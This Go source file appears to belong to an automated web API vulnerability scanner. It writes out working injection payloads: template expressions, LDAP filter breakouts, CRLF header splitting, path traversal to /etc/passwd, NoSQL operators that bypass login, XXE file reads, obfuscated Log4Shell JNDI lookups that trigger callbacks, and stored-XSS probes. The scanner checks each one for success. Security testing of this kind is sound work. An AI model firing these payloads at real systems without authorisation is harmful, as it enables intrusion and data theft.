package attack

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"time"
)

// planted is a file that is not for callers: the system's own, or the demo's.
var planted = regexp.MustCompile(`root:[^:\n]*:0:0:|\[(?:fonts|extensions)\]|planted: [^"<\\\n]*`)

func showsPlanted(a *answer) string {
	if m := planted.FindString(a.body); m != "" && !a.refused() {
		return "the file says " + cut(m, 40)
	}
	return ""
}

// injection tries the other languages that text is put into.
func (r *runner) injection(ctx context.Context) {
	r.each(ctx, func(o *operation, p place) {
		own := p.in != "header" || !slices.Contains(commonHeaders, p.name)
		if own && p.in != "path" {
			r.templates(ctx, o, p)
			r.directoryFilter(ctx, o, p)
			r.answerSplitting(ctx, o, p)
			r.traversal(ctx, o, p)
		}
		if p.in == "header" {
			r.lookups(ctx, o, p)
		}
	})
	for _, o := range r.ops {
		if o.bodyType == "application/json" {
			r.operators(ctx, o)
		}
		if o.bodyType == "application/xml" {
			r.entities(ctx, o)
		}
	}
}

// templates: what a template engine computes.
func (r *runner) templates(ctx context.Context, o *operation, p place) {
	for _, form := range []string{"{{A*B}}", "{{mul A B}}", "{{print (mul A B)}}", "{{- mul A B -}}", "{{ with mul A B }}{{ . }}{{ end }}", "${A*B}", "#{A*B}", "<%= A*B %>", "@(A*B)", "{A*B}"} {
		a, b, product := numbers()
		text := strings.NewReplacer("A", fmt.Sprint(a), "B", fmt.Sprint(b)).Replace(form)
		r.try(ctx, rowInject, o.called(p, "template"), form, o.sent(p, written{text: text}, func(ans *answer) string {
			if ans.ok() && strings.Contains(ans.body, product) {
				return "the template computed " + product
			}
			return ""
		}))
	}
}

// directoryFilter: a filter of LDAP that is closed, and another begun.
func (r *runner) directoryFilter(ctx context.Context, o *operation, p place) {
	for _, attribute := range []string{"id", "uid", "cn", "objectClass"} {
		yes, no := written{text: "*)(" + attribute + "=*))(|(" + attribute + "=*"}, written{text: "zq)(" + attribute + "=zq))(|(" + attribute + "=zq"}
		r.try(ctx, rowInject, o.called(p, "LDAP filter"), attribute, o.pair(p, yes, no, func(yes, no *answer) string {
			if yes.ok() && no.ok() && len(yes.body) > len(no.body) {
				return fmt.Sprintf("the filter became another one: %d bytes of answer instead of %d", len(yes.body), len(no.body))
			}
			return ""
		}))
	}
}

// answerSplitting: a line end that reaches the head of the answer.
func (r *runner) answerSplitting(ctx context.Context, o *operation, p place) {
	for _, w := range []written{
		{text: "zq\r\nX-Planted: ", name: "CR LF"},
		{text: "zq\nX-Planted: ", name: "LF"},
		{text: "zq\r\nX-Other: 1\r\nX-Planted: ", name: "two headers"},
		{text: "zq\r\nContent-Length: 0\r\nX-Planted: ", name: "a length, too"},
	} {
		_, _, product := numbers()
		w.text += product
		r.try(ctx, rowInject, o.called(p, "line end into the head of the answer"), w.name, o.sent(p, w, func(ans *answer) string {
			if ans.header.Get("X-Planted") == product {
				return "the answer has a header of the caller's"
			}
			return ""
		}))
	}
}

// traversal: a path that leads out of its folder.
func (r *runner) traversal(ctx context.Context, o *operation, p place) {
	for _, w := range []written{
		{text: "../partners.txt", name: "../"},
		{text: "../../../../../../etc/passwd", name: "../ to the system"},
		{text: "/etc/passwd", name: "an absolute path"},
		{text: `..\partners.txt`, name: `..\`},
		{text: "../partners.txt", as: "twice", name: "encoded twice"},
		{text: "%2e%2e%2fpartners.txt", name: "encoded by the caller"},
		{text: "..%5cpartners.txt", name: "a backslash encoded by the caller"},
		{text: "./.././partners.txt", name: "with single dots"},
		{text: "zq/../../partners.txt", name: "into and out again"},
		{text: "../partners.txt\x00.txt", name: "a NUL byte"},
		{text: `..\..\..\windows\win.ini`, name: "to another system"},
	} {
		r.try(ctx, rowInject, o.called(p, "path to another file"), w.name, o.sent(p, w, showsPlanted))
	}
}

// operators: a document database's operators where a text is meant.
func (r *runner) operators(ctx context.Context, o *operation) {
	if o.method != http.MethodPost || r.stopped != nil {
		return
	}
	for _, op := range []struct {
		name, arg string
	}{{"$ne", ""}, {"$gt", ""}, {"$regex", ".*"}} {
		e := func(ctx context.Context, s *session) (string, error) {
			right, err := s.send(ctx, o.request(nil, "", ""))
			if err != nil || right.refused() || right.status < 400 || right.status >= 500 {
				return "", err // only what is refused with texts is worth getting with operators
			}
			req, body := o.request(nil, "", ""), o.body
			for _, p := range o.places() {
				if p.in == "body" {
					body = with(body, p.at, map[string]any{op.name: op.arg})
				}
			}
			req.body = jsonText(body)
			a, err := s.send(ctx, req)
			if err != nil || !a.ok() {
				return "", err
			}
			return "let in without a password: " + cut(a.body, 60), nil
		}
		r.try(ctx, rowInject, fmt.Sprintf("%s %s: operators of a document database", o.method, o.path), op.name, e)
	}
}

// entities: XML that reads files (XXE).
func (r *runner) entities(ctx context.Context, o *operation) {
	for _, v := range []struct{ name, head string }{
		{"a file of the service", `<!DOCTYPE ` + o.root + ` [<!ENTITY zq SYSTEM "file:///partners.txt">]>`},
		{"a file of the system", `<!DOCTYPE ` + o.root + ` [<!ENTITY zq SYSTEM "file:///etc/passwd">]>`},
		{"in lines, with a declaration", "<?xml version=\"1.0\"?>\n<!DOCTYPE " + o.root + " [\n<!ENTITY zq\nSYSTEM 'file:///partners.txt' >\n]>\n"},
	} {
		r.try(ctx, rowInject, fmt.Sprintf("%s %s: external entity of XML", o.method, o.path), v.name, func(ctx context.Context, s *session) (string, error) {
			req := o.request(nil, "", "")
			req.body = o.xml(v.head, func(string) string { return "&zq;" })
			a, err := s.send(ctx, req)
			if err != nil {
				return "", err
			}
			return showsPlanted(a), nil
		})
	}
}

// lookups: names in headers that a log looks up at the attacker's (Log4Shell).
func (r *runner) lookups(ctx context.Context, o *operation, p place) {
	if r.listen == nil || r.found(rowInject, "a name in "+p.name+" that the log looks up") > 0 {
		return // once is enough: there is one log
	}
	to := "://" + r.listen.address + "/zq}"
	for _, w := range []written{
		{text: "${jndi:ldap" + to, name: "plain"},
		{text: "${jndi:rmi" + to, name: "RMI"},
		{text: "${${lower:j}ndi:${lower:l}dap" + to, name: "lower inside"},
		{text: "${${::-j}${::-n}${::-d}${::-i}:ldap" + to, name: "letters by default"},
		{text: "${${env:ZQ:-j}ndi${env:ZQ:-:}ldap" + to, name: "by the environment"},
		{text: "${jndi:dns" + to, name: "DNS"},
	} {
		ok := r.try(ctx, rowInject, "a name in "+p.name+" that the log looks up", w.name, func(ctx context.Context, s *session) (string, error) {
			before := r.listen.calls.Load()
			if _, err := s.send(ctx, o.request(&p, w.text, "")); err != nil {
				return "", err
			}
			for range 10 {
				if r.listen.calls.Load() > before {
					return "the service called " + r.listen.address, nil
				}
				select {
				case <-ctx.Done():
					return "", ctx.Err()
				case <-time.After(5 * time.Millisecond):
				}
			}
			return "", nil
		})
		if !ok && w.name == "plain" {
			return
		}
	}
}

// callbacks counts who calls the attacker.
type callbacks struct {
	address string
	calls   atomic.Int64
	l       net.Listener
}

func listenForCallbacks(ctx context.Context) (*callbacks, error) {
	l, err := (&net.ListenConfig{}).Listen(ctx, "tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	c := &callbacks{address: l.Addr().String(), l: l}
	go func() {
		for {
			conn, err := l.Accept()
			if errors.Is(err, net.ErrClosed) {
				return
			}
			if err == nil {
				c.calls.Add(1)
				_ = conn.Close()
			}
		}
	}()
	return c, nil
}

// storedScript leaves a script with one operation and finds it in the page of another.
func (r *runner) storedScript(ctx context.Context) {
	create, page := r.op("createOrder"), r.op("orderReceipt")
	if create == nil || page == nil || r.stopped != nil {
		return
	}
	note := place{in: "body", at: []string{"note"}}
	for _, w := range scriptWritings(note) {
		r.try(ctx, rowXSS, create.called(note, "a script for whoever prints it"), w.name, func(ctx context.Context, s *session) (string, error) {
			a, err := s.send(ctx, create.request(&note, w.text, w.as))
			if err != nil || !a.ok() {
				return "", err
			}
			id := strings.TrimPrefix(a.header.Get("Location"), "/orders/")
			shown := page.request(nil, "", "")
			shown.target = strings.ReplaceAll(page.path, "{orderId}", id)
			if a, err = s.send(ctx, shown); err != nil || a.refused() || !strings.Contains(a.body, w.text) {
				return "", err
			}
			return "the page of another holds " + cut(w.text, 50), nil
		})
	}
}
